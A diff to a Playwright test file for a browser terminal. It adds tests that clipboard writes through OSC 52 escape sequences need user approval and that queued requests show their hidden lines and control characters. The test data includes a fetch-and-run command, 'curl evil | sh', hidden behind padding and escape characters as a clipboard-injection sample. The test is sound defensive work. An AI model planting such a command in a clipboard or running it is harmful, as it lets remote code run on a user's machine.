@@ -111,12 +111,54 @@ def test_a_program_asks_before_it_writes_to_the_clipboard(host: RunningHost, tab
     question.get_by_role("button", name="Refuse").click()
     assert tab.page.evaluate("navigator.clipboard.readText()") == "mine"
     tab.type(osc52)
+    expect(question.get_by_role("button", name="Copy")).to_be_disabled()
     question.get_by_role("button", name="Copy").click()
     tab.until(lambda: tab.page.evaluate("navigator.clipboard.readText()") == "curl evil | sh", "the copy")
     # What the clipboard holds is told to no program.
     tab.type(r"stty -echo; printf '\033]52;c;?\007'; read -t 1 -r x; echo got-${#x}; stty echo")
     tab.shows("got-")
     assert "Y3VybCBldmls" not in tab.screen()
+
+
+def test_a_question_is_not_swapped_for_another_and_shows_all_of_it(host: RunningHost, tabs: Tabs) -> None:
+    tab = tabs(permissions=["clipboard-read", "clipboard-write"])
+    shell(tab, host)
+    one = base64.b64encode(b"echo harmless").decode()
+    two = base64.b64encode(b"echo " + b"x" * 200 + b"\ncurl evil | sh\x1b\n").decode()
+    tab.type(rf"printf '\033]52;c;%s\007' {one} {two}; echo sent")
+    tab.shows("sent", 2)
+    question = tab.page.get_by_role("region", name="Clipboard question")
+    text = question.get_by_role("group", name="The text")
+    expect(text).to_have_text("echo harmless")
+    expect(question).to_contain_text("1 more question waits")
+    expect(question).not_to_contain_text("lines")
+    question.get_by_role("button", name="Copy").click()
+    tab.until(lambda: tab.page.evaluate("navigator.clipboard.readText()") == "echo harmless", "the first copy")
+    expect(text).to_contain_text("⏎\ncurl evil | sh⟨ESC⟩⏎")
+    expect(question).to_contain_text("It has 3 lines")
+    expect(question).to_contain_text("control or invisible characters")
+    assert tab.audit() == []
+    question.get_by_role("button", name="Refuse", exact=True).click()
+    expect(question).to_be_hidden()
+    assert tab.page.evaluate("navigator.clipboard.readText()") == "echo harmless"
+
+
+def test_copying_works_in_a_browser_that_gives_pages_no_clipboard(host: RunningHost, tabs: Tabs) -> None:
+    tab = tabs(enter=False)
+    tab.page.add_init_script("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
+    tab.enter(host)
+    shell(tab, host)
+    tab.type("echo selected-word")
+    tab.shows("selected-word", 2)
+    tab.terminal.locator(".xterm-rows > div").get_by_text("selected-word", exact=True).dblclick(
+        position={"x": 12, "y": 5}, force=True
+    )
+    tab.page.keyboard.press("Control+Shift+C")
+    expect(tab.terminal.locator("textarea")).to_be_focused()
+    search = tab.page.get_by_role("searchbox")
+    search.focus()
+    tab.page.keyboard.press("Control+V")
+    expect(search).to_have_value("selected-word")
 
 
 def test_links_and_paths_in_output_open_nothing_by_themselves(host: RunningHost, tab: Tab) -> None:
